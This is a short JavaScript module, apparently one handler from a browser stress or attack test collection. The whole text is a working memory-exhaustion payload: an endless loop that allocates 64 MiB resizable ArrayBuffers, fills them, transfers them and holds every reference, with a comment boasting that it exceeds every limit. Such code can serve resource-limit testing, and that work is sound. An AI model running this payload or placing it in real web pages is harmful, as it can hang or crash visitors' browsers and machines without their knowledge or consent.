// Reserves little and grows buffers beyond every limit, shared ones included.
export const handle_button = (data) =>
  attack(data, async () => {
    const held = [];
    for (;;) {
      const buffer = new ArrayBuffer(0, { maxByteLength: 64 * 1024 ** 2 });
      buffer.resize(64 * 1024 ** 2);
      new Uint8Array(buffer).fill(1);
      held.push(buffer, buffer.transfer());
    }
  });
